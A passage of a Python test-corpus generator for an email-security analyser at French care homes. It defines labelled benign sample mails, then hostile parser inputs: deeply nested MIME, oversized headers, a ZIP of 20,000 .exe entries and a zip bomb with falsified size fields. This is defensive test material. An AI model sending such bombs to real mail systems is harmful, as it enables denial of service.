            "Bonjour,\n\nVotre facture du 01/03/2026 pour le site FAM L'Horizon est disponible dans "
            "votre espace client.\n\nMontant : 3 912,77 € - prélevé le 16/03/2026.\n\n"
            "[[Accéder à mon espace client|https://www.es-energies.fr/espace-client]]\n\n"
            "Cet e-mail est envoyé automatiquement, merci de ne pas y répondre.",
            brand="ÉS Énergies Strasbourg",
        )
    )
    # ARS newsletters and notices
    add(
        Mail(
            "ars_lettre_info",
            L,
            "ARS newsletter",
            "ARS newsletter, many tracking links through the mailing service, tracking pixel.",
            ars,
            DIRECTION_T,
            "La lettre de l'ARS Grand Est - mars 2026",
            newsletter_body(
                "ars_lettre_info",
                "Madame, Monsieur,\n\nVoici les actualités du mois "
                "pour les établissements et services médico-sociaux.",
                [
                    ("Campagne budgétaire ESMS 2026", "Les orientations et le calendrier."),
                    ("Qualité de l'air intérieur", "Rappel des obligations en EHPAD."),
                    ("Cybersécurité : exercices de crise", "Un kit pour vos équipes."),
                    ("Recrutement d'aides-soignants", "Les dispositifs régionaux."),
                ],
                "www.grand-est.ars.sante.fr",
            ),
            extra=list_headers,
            brand="ARS Grand Est",
            footer=ARS_FOOTER,
            pixel="https://xr4k2.r.sp1-brevo.net/tr/op/ars-lettre-mars",
            dkim_domain="ars.sante.fr",
            origin="smtp-relay.sendinblue.com",
            mailfrom="bounces-8861@sib.ars.sante.fr",
        )
    )
    add(
        Mail(
            "ars_canicule",
            L,
            "ARS notice",
            "Tricky: ARS heat-wave alert with urgent wording (« urgent », « immédiatement ») and tracking links.",
            ars,
            DIRECTION_H,
            "URGENT - Déclenchement du plan canicule niveau 3",
            "Madame la Directrice, Monsieur le Directeur,\n\nLe niveau 3 « alerte canicule » est "
            "déclenché à compter de demain pour la Moselle et le Bas-Rhin. Merci de mettre en "
            "œuvre immédiatement les mesures de votre plan bleu.\n\n"
            f"[[Fiches de recommandations|{track('ars_canicule', 1)}]]\n"
            f"[[Signaler une difficulté|{track('ars_canicule', 2)}]]\n\nLa cellule de veille "
            "sanitaire de l'ARS Grand Est",
            extra=list_headers,
            brand="ARS Grand Est",
            footer=ARS_FOOTER,
            origin="smtp-relay.sendinblue.com",
            mailfrom="bounces-8861@sib.ars.sante.fr",
        )
    )
    add(
        Mail(
            "ars_appel_projets",
            L,
            "ARS newsletter",
            "ARS call for projects, tracking links and a link whose text is the ARS site (tracked).",
            ars,
            DIRECTION_T,
            "Appel à projets : renforcement de la cybersécurité des ESMS",
            "Madame, Monsieur,\n\nL'ARS lance un appel à projets pour le renforcement de la "
            "cybersécurité des établissements médico-sociaux (programme CaRE).\n\nDate limite de "
            "dépôt : 30 avril 2026.\n\n"
            f"[[Cahier des charges|{track('ars_appel_projets', 1)}]]\n"
            f"[[www.grand-est.ars.sante.fr|{track('ars_appel_projets', 2)}]]\n\n"
            "La Direction de l'autonomie",
            extra=list_headers,
            brand="ARS Grand Est",
            footer=ARS_FOOTER,
            origin="smtp-relay.sendinblue.com",
            mailfrom="bounces-8861@sib.ars.sante.fr",
        )
    )
    add(
        Mail(
            "ars_vaccination",
            L,
            "ARS notice",
            "ARS vaccination campaign reminder, PDF attached and links.",
            ars,
            IDEC_T,
            "Campagne de vaccination grippe et Covid - bilan à transmettre",
            "Bonjour,\n\nMerci de transmettre avant le 15 mars le bilan de la campagne de "
            "vaccination de vos résidents et professionnels via le formulaire en ligne.\n\n"
            f"[[Formulaire de bilan|{track('ars_vaccination', 1)}]]\n\nLa note d'information est "
            "jointe.\n\nARS Grand Est - Pôle veille et sécurité sanitaires",
            extra=list_headers[2:],
            origin="smtp.ars.sante.fr",
            atts=[Att("Note_campagne_vaccinale.pdf", "application/pdf", pdf("Note campagne"))],
        )
    )
    add(
        Mail(
            "cert_sante_bulletin",
            L,
            "CERT Santé bulletin",
            "CERT Santé security bulletin: words like vulnérabilité, mise à jour, urgent.",
            ("CERT Santé", "cert-sante@esante.gouv.fr"),
            DIRECTION_H,
            "[CERT Santé] Alerte de sécurité : vulnérabilité critique dans des VPN",
            "Bonjour,\n\nUne vulnérabilité critique affectant plusieurs passerelles VPN est "
            "activement exploitée. Le CERT Santé recommande d'appliquer sans délai les mises à "
            "jour publiées par l'éditeur et de vérifier les journaux de connexion.\n\n"
            "[[Consulter l'alerte|https://cyberveille.esante.gouv.fr/alertes/2026-0142]]\n\n"
            "Transmettez cette alerte à votre prestataire informatique.\n\nCERT Santé - ANS",
            brand="CERT Santé",
        )
    )
    # A colleague's mail with a PDF and other internal mails
    add(
        Mail(
            "collegue_planning_pdf",
            L,
            "colleague's mail",
            "Colleague sends the March rota as PDF, internal Microsoft 365 mail.",
            ("Julie Perrin", f"j.perrin@{TILLEULS}"),
            ACCUEIL_T,
            "Planning de mars",
            "Bonjour,\n\nVoici le planning de mars validé par la direction. Merci de l'afficher en "
            "salle de pause.\n\nBonne journée,\nJulie\nIDEC - EHPAD Les Tilleuls",
            mua="Microsoft Outlook 16.0",
            hops=1,
            atts=[Att("Planning_mars_2026.pdf", "application/pdf", pdf("Planning mars 2026"))],
        )
    )
    add(
        Mail(
            "collegue_cr_reunion",
            L,
            "colleague's mail",
            "Meeting minutes from the coordinating physician, PDF, no auth results (internal relay).",
            ("Dr Michel Fontaine", f"m.fontaine@{TILLEULS}"),
            IDEC_T,
            "CR commission de coordination gériatrique",
            "Bonjour à tous,\n\nCi-joint le compte rendu de la commission du 26 février. Points "
            "importants : protocole chutes mis à jour, formation contention le 12 mars.\n\n"
            "Bien cordialement,\nDr Fontaine",
            html=False,
            auth=None,
            hops=1,
            cc=f"c.marchal@{TILLEULS}",
            atts=[Att("CR_commission_26-02.pdf", "application/pdf", pdf("CR commission"))],
        )
    )
    add(
        Mail(
            "collegue_transfert_inline",
            L,
            "colleague's mail",
            "Colleague forwards a supplier's quote inline (TR:), PDF attached.",
            ("Isabelle Henry", f"i.henry@{HORIZON}"),
            COMPTA_H,
            "TR: Devis matelas",
            "Marc,\n\nPour info, le devis que nous avons validé en réunion.\n\nIsabelle\n\n"
            "-----Message d'origine-----\nDe : Médical Est Équipement <service.client@medical-est.fr>"
            "\nEnvoyé : vendredi 27 février 2026 11:02\nObjet : Devis matelas\n\nBonjour,\n"
            "Ci-joint notre devis. Cordialement.",
            html=False,
            mua="Mozilla Thunderbird 128.7.0",
            hops=1,
            atts=[Att("Devis_D26-077.pdf", "application/pdf", pdf("Devis D26-077"))],
        )
    )
    add(
        Mail(
            "collegue_photos_animation",
            L,
            "colleague's mail",
            "Animation team shares the carnival photos through a link to the facility's SharePoint.",
            ("Léa Martin", f"animation@{TILLEULS}"),
            DIRECTION_T,
            "Photos du carnaval",
            "Bonjour Catherine,\n\nLes photos du carnaval sont sur le SharePoint (uniquement les "
            "résidents dont on a l'autorisation de droit à l'image) :\n\n[[Photos carnaval 2026|"
            "https://ehpadlestilleuls.sharepoint.com/sites/animation/Photos/Carnaval2026]]\n\nLéa",
            hops=1,
        )
    )
    add(
        Mail(
            "collegue_sharepoint_partage",
            L,
            "colleague's mail",
            "Genuine SharePoint sharing notice (sender sharepointonline.com) for a colleague's file.",
            ("Julie Perrin (via SharePoint)", "no-reply@sharepointonline.com"),
            DIRECTION_T,
            "Julie Perrin a partagé « Protocole chutes v3.docx » avec vous",
            "Julie Perrin a partagé un fichier avec vous.\n\nProtocole chutes v3.docx\n\n"
            "[[Ouvrir|https://ehpadlestilleuls.sharepoint.com/:w:/s/soins/EbX2protocole]]\n\n"
            "Déclaration de confidentialité de Microsoft",
            brand="SharePoint",
            dkim_domain="sharepointonline.com",
            origin="mail-eopbgr.outbound.protection.outlook.com",
        )
    )
    add(
        Mail(
            "collegue_rib_rh",
            L,
            "colleague's mail",
            "Tricky: an employee sends her new RIB to HR from her work address (auth pass), PDF.",
            ("Amandine Klein", f"a.klein@{HORIZON}"),
            Recipient("RH FAM L'Horizon", f"rh@{HORIZON}"),
            "Changement de banque",
            "Bonjour,\n\nJ'ai changé de banque, je vous joins mon nouveau RIB pour le virement "
            "du salaire à partir de mars. Je passe signer le formulaire au bureau jeudi.\n\n"
            "Merci,\nAmandine",
            html=False,
            hops=1,
            atts=[Att("RIB_Klein.pdf", "application/pdf", pdf("RIB A. Klein"))],
        )
    )
    add(
        Mail(
            "interne_note_service",
            L,
            "facility's own domain",
            "Director's note to all staff (facility's own domain), PDF note attached.",
            ("Catherine Marchal", f"c.marchal@{TILLEULS}"),
            Recipient("Tout le personnel", f"personnel@{TILLEULS}"),
            "Note de service : exercice incendie",
            "Bonjour à toutes et à tous,\n\nUn exercice d'évacuation incendie aura lieu le mardi 10 "
            "mars à 14 h 30. Merci de prendre connaissance de la note jointe.\n\nCatherine Marchal"
            "\nDirectrice",
            mua="Microsoft Outlook 16.0",
            hops=1,
            atts=[
                Att("Note_exercice_incendie.pdf", "application/pdf", pdf("Note exercice incendie"))
            ],
        )
    )
    add(
        Mail(
            "interne_formation",
            L,
            "facility's own domain",
            "IDEC reminder of a training session, with a calendar invitation.",
            ("Julie Perrin", f"j.perrin@{TILLEULS}"),
            Recipient("Équipe de jour", f"equipe-jour@{TILLEULS}"),
            "Rappel : formation bientraitance jeudi",
            "Bonjour,\n\nPetit rappel : la formation bientraitance a lieu jeudi de 14 h à 16 h en "
            "salle d'animation. Merci de confirmer votre présence.\n\nJulie",
            hops=1,
            atts=[
                Att(
                    "invite.ics", "text/calendar", ics("Formation bientraitance", "20260305T140000")
                )
            ],
        )
    )
    add(
        Mail(
            "interne_menus",
            L,
            "facility's own domain",
            "Kitchen sends the menus of the week, plain text.",
            ("Cuisine Les Tilleuls", f"cuisine@{TILLEULS}"),
            ACCUEIL_T,
            "Menus semaine 11",
            "Bonjour,\n\nVoici les menus de la semaine 11 pour l'affichage.\nLundi : potage, "
            "blanquette, riz, yaourt\nMardi : salade, poisson, purée, compote\n\nL'équipe cuisine",
            html=False,
            hops=1,
            cte="8bit",
        )
    )
    add(
        Mail(
            "interne_mot_de_passe_rappel",
            L,
            "facility's own domain",
            "Tricky: referent's reminder about passwords (mot de passe, ne jamais communiquer), no link.",
            ("Isabelle Henry", f"i.henry@{HORIZON}"),
            Recipient("Équipe FAM", f"equipe@{HORIZON}"),
            "Rappel sécurité : mots de passe",
            "Bonjour à tous,\n\nSuite au mail frauduleux reçu la semaine dernière, un rappel : "
            "personne (ni la direction, ni le prestataire, ni Microsoft) ne vous demandera votre "
            "mot de passe par mail ou par téléphone. En cas de doute, signalez le message à Vigie "
            "ou au référent.\n\nMerci,\nIsabelle, référente numérique",
            html=False,
            hops=1,
        )
    )
    # Software vendor notices
    add(
        Mail(
            "editeur_mise_a_jour",
            L,
            "software vendor notice",
            "Care-software vendor: « mise à jour importante » of the logiciel de soins, release notes link.",
            ("LogiSoins", "information@logisoins.fr"),
            IDEC_T,
            "Important : mise à jour de votre logiciel de soins (version 12.4)",
            "Madame, Monsieur,\n\nLa version 12.4 de LogiSoins sera déployée automatiquement sur "
            "votre établissement dans la nuit du 9 au 10 mars. Aucune action n'est requise de "
            "votre part : le logiciel sera indisponible de 23 h à 1 h.\n\nNouveautés : plan de "
            "soins, transmissions ciblées, export DLU.\n\n[[Notes de version|"
            "https://www.logisoins.fr/notes-de-version/12-4]]\n\nL'équipe LogiSoins",
            brand="LogiSoins",
            atts=[Att("logo.png", "image/png", png_pixel(), "logo@logisoins.fr")],
        )
    )
    add(
        Mail(
            "editeur_maintenance",
            L,
            "software vendor notice",
            "Vendor maintenance window notice with urgent-sounding words (interruption, impératif).",
            ("LogiSoins - Support", "support@logisoins.fr"),
            CADRE_H,
            "Maintenance programmée - interruption de service",
            "Bonjour,\n\nUne opération de maintenance de nos serveurs aura lieu le dimanche 8 mars "
            "de 6 h à 8 h. Il est impératif de fermer le logiciel avant 6 h pour éviter toute "
            "perte de saisie.\n\nNous vous remercions de votre compréhension.\n\nLe support LogiSoins",
            html=False,
        )
    )
    add(
        Mail(
            "editeur_certificat",
            L,
            "software vendor notice",
            "Vendor reminder: renew the DMP certificate from within the software (no link, no credentials).",
            ("LogiSoins", "information@logisoins.fr"),
            DIRECTION_H,
            "Action requise : renouvellement du certificat DMP avant le 31 mars",
            "Madame, Monsieur,\n\nLe certificat d'établissement utilisé pour alimenter le DMP expire "
            "le 31 mars. Votre référent doit le renouveler depuis le menu Paramètres > Certificats "
            "du logiciel. La procédure est décrite dans l'aide en ligne.\n\nSans renouvellement, "
            "l'envoi des DLU vers Mon espace santé sera suspendu.\n\nL'équipe LogiSoins",
            brand="LogiSoins",
        )
    )
    add(
        Mail(
            "editeur_webinaire",
            L,
            "software vendor notice",
            "Vendor webinar invitation through a marketing platform (tracking links, pixel).",
            ("LogiSoins", "evenements@logisoins.fr"),
            IDEC_T,
            "Webinaire : les nouveautés du plan de soins",
            "Bonjour,\n\nNous vous invitons au webinaire du 19 mars à 14 h consacré aux nouveautés "
            "du plan de soins.\n\n"
            f"[[Je m'inscris|{track('editeur_webinaire', 1, 'click.mlsend.com')}]]\n\n"
            f"[[Voir le programme|{track('editeur_webinaire', 2, 'click.mlsend.com')}]]",
            brand="LogiSoins",
            origin="mta-12.mlsend.com",
            pixel="https://click.mlsend.com/o/lsw19",
            mailfrom="bounce@mlsend.logisoins.fr",
            extra=[("List-Unsubscribe", "<https://click.mlsend.com/unsub/logisoins>")],
        )
    )
    # Payroll notices
    add(
        Mail(
            "paie_bulletin_digiposte",
            L,
            "payroll notice",
            "Payslip available in the digital safe (Digiposte), link to the site, no credentials asked.",
            ("Digiposte", "noreply@digiposte.fr"),
            RH_T,
            "Votre bulletin de paie de février est disponible",
            "Bonjour,\n\nVotre employeur EHPAD Les Tilleuls a déposé votre bulletin de paie de "
            "février 2026 dans votre coffre-fort Digiposte.\n\n[[Consulter mon coffre-fort|"
            "https://secure.digiposte.fr/]]\n\nL'équipe Digiposte",
            brand="Digiposte",
        )
    )
    add(
        Mail(
            "paie_elements_variables",
            L,
            "payroll notice",
            "Payroll office asks for the variable pay items before the 20th (paie, date limite).",
            ("Cabinet Ferrand Expertise - Paie", "paie@ferrand-expertise.fr"),
            RH_T,
            "Éléments variables de paie de mars - date limite le 20/03",
            "Bonjour Madame Roux,\n\nPour l'établissement des bulletins de mars, merci de nous "
            "transmettre les éléments variables (heures supplémentaires, absences, primes de "
            "nuit et dimanche) au plus tard le 20 mars.\n\nLe tableau habituel est joint.\n\n"
            "Cordialement,\nPôle social - Cabinet Ferrand Expertise",
            html=False,
            atts=[Att("Elements_variables_mars.pdf", "application/pdf", pdf("Elements variables"))],
        )
    )
    add(
        Mail(
            "paie_rh_virement",
            L,
            "payroll notice",
            "HR tells staff salaries are paid a day late (virement, paie), from the facility's domain.",
            ("Service RH", f"rh@{HORIZON}"),
            Recipient("Tout le personnel", f"personnel@{HORIZON}"),
            "Information paie : virement des salaires le 1er avril",
            "Bonjour à tous,\n\nEn raison du jour férié, le virement des salaires de mars sera "
            "effectué le 1er avril au lieu du 31 mars. Les bulletins seront disponibles le même "
            "jour.\n\nLe service RH",
            html=False,
            hops=1,
        )
    )
    add(
        Mail(
            "paie_dsn_urssaf",
            L,
            "payroll notice",
            "Genuine URSSAF notice that a DSN was received, no link.",
            ("Urssaf", "ne-pas-repondre@urssaf.fr"),
            COMPTA_H,
            "Accusé de réception de votre DSN de février 2026",
            "Madame, Monsieur,\n\nNous accusons réception de votre déclaration sociale nominative "
            "(DSN) de février 2026 pour l'établissement FAM L'Horizon. Aucune anomalie n'a été "
            "détectée.\n\nCe message est envoyé automatiquement.\n\nVotre Urssaf",
            html=False,
        )
    )
    # MSSanté notices and mails
    add(
        Mail(
            "mssante_notification",
            L,
            "MSSanté notice",
            "Genuine Mailiz notice of a new secure message (link to mailiz.mssante.fr).",
            ("Mailiz", "ne-pas-repondre@mailiz.mssante.fr"),
            IDEC_T,
            "Nouveau message dans votre messagerie Mailiz",
            "Bonjour,\n\nVous avez reçu un nouveau message dans votre boîte aux lettres MSSanté "
            "Mailiz.\n\nPour le consulter, connectez-vous avec votre carte CPS ou votre e-CPS :\n\n"
            "[[https://mailiz.mssante.fr|https://mailiz.mssante.fr]]\n\nCet e-mail est une "
            "notification automatique.",
            brand="Mailiz",
            mailfrom="bounce@mssante.fr",
        )
    )
    add(
        Mail(
            "mssante_expiration_mdp",
            L,
            "MSSanté notice",
            "Tricky: genuine password-expiry notice from Mailiz (mot de passe, expire), no credentials asked.",
            ("Mailiz", "ne-pas-repondre@mailiz.mssante.fr"),
            CADRE_H,
            "Votre mot de passe Mailiz expire dans 15 jours",
            "Bonjour,\n\nLe mot de passe de votre compte Mailiz expire dans 15 jours. Vous pourrez "
            "le modifier lors de votre prochaine connexion sur mailiz.mssante.fr, rubrique "
            "« Mon compte ».\n\nNous ne vous demanderons jamais votre mot de passe par e-mail.\n\n"
            "L'équipe Mailiz - Agence du Numérique en Santé",
            html=False,
            mailfrom="bounce@mssante.fr",
        )
    )
    add(
        Mail(
            "mssante_cr_hopital",
            L,
            "MSSanté mail",
            "Discharge summary from a hospital's MSSanté address, PDF attached.",
            ("Dr Paul Klein", "dr.klein@ch-valdesarre.mssante.fr"),
            IDEC_T,
            "CRH Mme B. - sortie le 27/02",
            "Chère consœur, cher confrère,\n\nVeuillez trouver ci-joint le compte rendu "
            "d'hospitalisation de votre résidente, sortie le 27/02/2026. Traitement de sortie "
            "détaillé en page 2.\n\nBien confraternellement,\nDr P. Klein\nService de médecine "
            "gériatrique - CH Val-de-Sarre",
            html=False,
            mailfrom="dr.klein@ch-valdesarre.mssante.fr",
            atts=[
                Att("CRH_2026-02-27.pdf", "application/pdf", pdf("Compte rendu hospitalisation"))
            ],
        )
    )
    add(
        Mail(
            "mssante_medecin_traitant",
            L,
            "MSSanté mail",
            "A GP's MSSanté mail about a resident's treatment, no attachment.",
            ("Dr Anne Schwartz", "anne.schwartz@medecin.mssante.fr"),
            IDEC_T,
            "Adaptation traitement M. L.",
            "Bonjour,\n\nSuite à ma visite de ce matin, je diminue le furosémide à 20 mg le matin. "
            "Ordonnance transmise à la pharmacie. Merci de surveiller le poids deux fois par "
            "semaine.\n\nDr Schwartz",
            html=False,
        )
    )
    # Banks, public bodies and usual services
    add(
        Mail(
            "banque_releve",
            L,
            "bank notice",
            "Bank: statement available, no link, asks nothing.",
            ("Crédit Agricole", "ne-pas-repondre@credit-agricole.fr"),
            COMPTA_T,
            "Votre relevé de compte est disponible",
            "Madame,\n\nVotre relevé de compte de février 2026 est disponible dans votre espace "
            "Crédit Agricole En Ligne, rubrique e-Documents.\n\nPour votre sécurité, nous ne vous "
            "demanderons jamais vos codes d'accès par e-mail.\n\nVotre conseiller",
            html=False,
        )
    )
    add(
        Mail(
            "banque_conditions",
            L,
            "bank notice",
            "Tricky: bank notice of new fees (« Information importante »), no link, asks nothing.",
            ("Caisse d'Epargne Grand Est Europe", "information@caisse-epargne.fr"),
            COMPTA_H,
            "Information importante : évolution de vos conditions tarifaires",
            "Madame, Monsieur,\n\nÀ compter du 1er mai 2026, certaines conditions tarifaires de "
            "votre convention de compte professionnel évoluent. Le détail est disponible dans "
            "votre espace de banque à distance et auprès de votre agence.\n\nSans contestation de "
            "votre part avant cette date, ces conditions seront réputées acceptées.\n\n"
            "Votre Caisse d'Epargne",
            brand="Caisse d'Epargne",
        )
    )
    add(
        Mail(
            "banque_virement_recu",
            L,
            "bank notice",
            "Bank alert: an incoming transfer was credited (virement), no link.",
            ("Banque Populaire", "alertes@banquepopulaire.fr"),
            COMPTA_T,
            "Alerte : virement reçu",
            "Bonjour,\n\nUn virement de 8 240,00 € (CD 57 APA) a été crédité sur votre compte "
            "professionnel ****4410 le 03/03/2026.\n\nCeci est une alerte automatique, merci de ne "
            "pas répondre.",
            html=False,
            auth=("pass", "pass", "bestguesspass"),
        )
    )
    add(
        Mail(
            "ameli_pro_info",
            L,
            "Ameli notice",
            "Genuine Ameli pro information letter from assurance-maladie.fr with links to ameli.fr.",
            ("Ameli pro", "information@assurance-maladie.fr"),
            DIRECTION_T,
            "Ameli pro : ce qui change au 1er mars",
            "Madame, Monsieur,\n\nRetrouvez les évolutions de vos services en ligne au 1er mars : "
            "nouvelle téléprocédure de déclaration des soins infirmiers, simplification de la "
            "facturation des forfaits soins.\n\n[[En savoir plus sur ameli.fr|"
            "https://www.ameli.fr/moselle/etablissement/actualites]]\n\nL'Assurance Maladie",
            brand="ameli pro",
            mailfrom="bounce@mail.assurance-maladie.fr",
            origin="mailer.assurance-maladie.fr",
        )
    )
    add(
        Mail(
            "impots_avis",
            L,
            "tax office notice",
            "Genuine DGFiP notice: a document is available in the professional space, no link.",
            ("impots.gouv.fr", "ne-pas-repondre@dgfip.finances.gouv.fr"),
            COMPTA_H,
            "Un nouveau document est disponible dans votre espace professionnel",
            "Madame, Monsieur,\n\nUn nouveau document concernant la taxe sur les salaires est "
            "disponible dans la messagerie sécurisée de votre espace professionnel sur "
            "impots.gouv.fr.\n\nCe courriel est envoyé automatiquement, merci de ne pas y "
            "répondre.\n\nLa Direction générale des Finances publiques",
            html=False,
        )
    )
    add(
        Mail(
            "colissimo_suivi",
            L,
            "parcel notice",
            "Genuine Colissimo delivery notice with a tracking link on laposte.fr.",
            ("Colissimo", "noreply@notif-colissimo.colissimo.fr"),
            ACCUEIL_T,
            "Votre colis sera livré demain",
            "Bonjour,\n\nVotre colis 6A23491780599 de la part de MEDIC-FOURNITURES sera livré "
            "demain entre 9 h et 13 h.\n\n[[Suivre mon colis|"
            "https://www.laposte.fr/outils/suivre-vos-envois?code=6A23491780599]]\n\nColissimo",
            brand="Colissimo",
            dkim_domain="colissimo.fr",
        )
    )
    add(
        Mail(
            "microsoft_renouvellement",
            L,
            "Microsoft notice",
            "Genuine Microsoft 365 subscription renewal, links to admin.microsoft.com.",
            ("Microsoft", "microsoft-noreply@microsoft.com"),
            DIRECTION_T,
            "Votre abonnement Microsoft 365 Business Standard a été renouvelé",
            "Bonjour,\n\nVotre abonnement Microsoft 365 Business Standard (25 licences) a été "
            "renouvelé le 1er mars 2026. Le paiement sera prélevé selon votre mode de paiement "
            "enregistré.\n\n[[Afficher la facture|https://admin.microsoft.com/Adminportal/Home#/"
            "billoverview/invoice-list]]\n\nMicrosoft Corporation, One Microsoft Way, Redmond",
            brand="Microsoft 365",
            origin="mail-eopbgr.outbound.protection.outlook.com",
        )
    )
    # The provider and others
    add(
        Mail(
            "prestataire_intervention",
            L,
            "IT provider notice",
            "The real IT provider announces a planned intervention (mise à jour, redémarrage).",
            ("Axion Santé Informatique", f"support@{PROVIDER}"),
            ACCUEIL_T,
            "Intervention planifiée samedi 7 mars - mises à jour",
            "Bonjour,\n\nNous installerons les mises à jour de sécurité Windows sur vos postes le "
            "samedi 7 mars entre 8 h et 12 h. Merci de laisser les postes allumés vendredi soir "
            "et d'enregistrer vos documents.\n\nAucune action de votre part n'est nécessaire.\n\n"
            "Thomas Girard\nAxion Santé Informatique - 03 87 98 76 54",
            html=False,
        )
    )
    add(
        Mail(
            "prestataire_ticket_resolu",
            L,
            "IT provider notice",
            "Helpdesk ticket closed, link to the provider's portal.",
            ("Support Axion SI", f"helpdesk@{PROVIDER}"),
            SECRETARIAT_H,
            "[Ticket #4521] Imprimante du bureau infirmier - résolu",
            "Bonjour,\n\nVotre demande #4521 (imprimante du bureau infirmier) a été résolue : "
            "le pilote a été réinstallé.\n\n[[Voir le ticket|https://portail.axion-si.fr/tickets/4521]]"
            "\n\nSi le problème persiste, répondez simplement à ce message.\n\nSupport Axion SI",
            brand="Axion Santé Informatique",
        )
    )
    add(
        Mail(
            "prestataire_sensibilisation",
            L,
            "IT provider notice",
            "Tricky: provider's awareness mail quoting phishing words (mot de passe, urgent, virement).",
            ("Axion Santé Informatique", f"securite@{PROVIDER}"),
            DIRECTION_H,
            "Sensibilisation : vague de faux mails Ameli",
            "Madame, Monsieur,\n\nUne vague de faux mails se faisant passer pour l'Assurance "
            "Maladie circule. Ils annoncent un remboursement ou une suspension de compte « sous "
            "24 h » et demandent de saisir un mot de passe ou des coordonnées bancaires.\n\n"
            "Rappel : aucun organisme ne demande un mot de passe ou un virement urgent par mail. "
            "Ne cliquez pas, signalez le message.\n\nL'équipe sécurité Axion Santé Informatique",
            brand="Axion Santé Informatique",
        )
    )
    add(
        Mail(
            "conseil_departemental",
            L,
            "public body notice",
            "Département notice about the APA allocation, PDF attached, DKIM missing (relay).",
            ("Conseil départemental de la Moselle", "autonomie@moselle.fr"),
            DIRECTION_T,
            "Dotation APA 2026 - notification",
            "Madame la Directrice,\n\nVeuillez trouver ci-joint l'arrêté fixant la dotation globale "
            "APA de votre établissement pour 2026.\n\nLe Pôle Autonomie",
            html=False,
            auth=("pass", "none", "none"),
            atts=[Att("Arrete_APA_2026.pdf", "application/pdf", pdf("Arrete APA 2026"))],
        )
    )
    add(
        Mail(
            "famille_resident",
            L,
            "family's mail",
            "A resident's daughter writes from Gmail (free mail, no pressure, no link).",
            ("Sylvie Bertrand", "sylvie.bertrand57@gmail.com"),
            ACCUEIL_T,
            "Visite de ma mère dimanche",
            "Bonjour,\n\nJe viendrai voir ma mère, Mme Bertrand (chambre 112), dimanche après-midi "
            "avec mes enfants. Est-il possible de réserver le petit salon ?\n\nMerci beaucoup,\n"
            "Sylvie Bertrand",
            html=False,
            origin="mail-sor-f41.google.com",
        )
    )
    add(
        Mail(
            "liste_diffusion_forward",
            L,
            "mailing list",
            "Regional network's mailing list (Google Groups): DMARC/DKIM broken by the list, legit.",
            ("Réseau des EHPAD de Moselle", "reseau-ehpad-57@googlegroups.com"),
            DIRECTION_H,
            "[reseau-ehpad-57] Journée régionale du 2 avril",
            "Bonjour à tous,\n\nLe programme de la journée régionale du 2 avril est en ligne. "
            "Inscriptions avant le 20 mars.\n\n[[Programme et inscription|"
            "https://www.reseau-ehpad57.fr/journee-2026]]\n\nPour le bureau, M. Simon",
            html=False,
            auth=("pass", "fail", "none"),
            mailfrom="reseau-ehpad-57+bncBC@googlegroups.com",
            origin="mail-yb1-f184.google.com",
            extra=[
                ("List-Id", "<reseau-ehpad-57.googlegroups.com>"),
                ("List-Post", "<https://groups.google.com/group/reseau-ehpad-57/post>"),
            ],
        )
    )
    return mails


# --- hostile ------------------------------------------------------------------------------
def hostile_head(name: str, subject: str, extra: str = "") -> str:
    return (
        f"Return-Path: <bounce@{name.replace('_', '-')}.example>\n"
        f"Received: from relay.example (relay.example [{public_ip(rng(name))}])\n"
        f"\tby mx2.{HORIZON} (Postfix) with ESMTP id {digest(name, 'q', 12).upper()};\n"
        f"\t{format_datetime(T0)}\n"
        f"From: Service <service@{name.replace('_', '-')}.example>\n"
        f"To: {SECRETARIAT_H.address}\n"
        f"Subject: {subject}\n"
        f"Date: {format_datetime(T0)}\n"
        f"Message-ID: <{digest(name, 'mid', 24)}@hostile.example>\n"
        f"{extra}MIME-Version: 1.0\n"
    )


def deep_nesting(levels: int = 50) -> bytes:
    """``levels`` nested multipart/mixed parts, a text part at the bottom."""
    head = hostile_head("deep_nesting", f"Imbrication de {levels} niveaux")
    opening = "".join(
        f'Content-Type: multipart/mixed; boundary="n{i}"\n\n--n{i}\n' for i in range(levels)
    )
    closing = "".join(f"\n--n{i}--\n" for i in reversed(range(levels)))
    bottom = "Content-Type: text/plain; charset=utf-8\n\nFond de la pile.\n"
    return (head + opening + bottom + closing).encode()


def many_parts(count: int = 5000) -> bytes:
    """One multipart/mixed message with ``count`` tiny parts."""
    head = hostile_head("many_parts", f"{count} parties")
    body = 'Content-Type: multipart/mixed; boundary="p"\n\n'
    body += "".join(f"--p\n\n{i}\n" for i in range(count)) + "--p--\n"
    return (head + body).encode()


def huge_headers(size: int = 200_000) -> bytes:
    """Headers of about ``size`` bytes: many Received lines and one enormous folded header."""
    lines = [hostile_head("huge_headers", "En-têtes énormes").rstrip("\n")]
    total = sum(map(len, lines))
    hop = 0
    while total < size // 2:
        line = f"Received: from hop{hop}.example (hop{hop}.example [10.0.{hop % 250}.1]) by hop{hop + 1}.example; {format_datetime(T0)}"
        lines.append(line)
        total += len(line) + 1
        hop += 1
    chunk = "X-Padding: " + "\n ".join("a" * 70 for _ in range((size - total) // 72))
    lines.append(chunk)
    return ("\n".join(lines) + "\nContent-Type: text/plain\n\nCorps.\n").encode()


def big_message(size: int = 11 * 1024 * 1024) -> bytes:
    """A well-formed message of about ``size`` bytes (a big base64 PDF-like attachment)."""
    head = hostile_head("big_message", "Gros message")
    boundary = "big"
    payload_len = (size * 3) // 4
    block = pdf("gros fichier")
    data = (block * (payload_len // len(block) + 1))[:payload_len]
    body = (
        f'Content-Type: multipart/mixed; boundary="{boundary}"\n\n--{boundary}\n'
        "Content-Type: text/plain; charset=utf-8\n\nVoir la pièce jointe.\n"
        f'--{boundary}\nContent-Type: application/pdf; name="gros.pdf"\n'
        'Content-Disposition: attachment; filename="gros.pdf"\n'
        "Content-Transfer-Encoding: base64\n\n"
    )
    return (head + body).encode() + wrap_b64(data).encode() + f"--{boundary}--\n".encode()


def zip_many_entries(count: int = 20_000) -> bytes:
    """A ZIP with ``count`` empty entries (more than the analyser reads)."""
    return make_zip(((f"f{i:05d}.exe", b"") for i in range(count)), compress=False)


def zip_declared_bomb() -> bytes:
    """16 MiB of zeros, deflated, whose headers then declare 4 GiB uncompressed."""
    data = bytearray(make_zip([("donnees.bin", bytes(16 << 20)), ("lisezmoi.exe", pe_stub("z"))]))
    huge = (0xFFFFFFF0).to_bytes(4, "little")
    pos = 0
    while (pos := data.find(b"PK\x03\x04", pos)) != -1:
        data[pos + 22 : pos + 26] = huge
        pos += 4
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) != -1:
        data[pos + 24 : pos + 28] = huge
        pos += 4
    return bytes(data)


def zip_nested_bomb(levels: int = 4, width: int = 8) -> bytes:
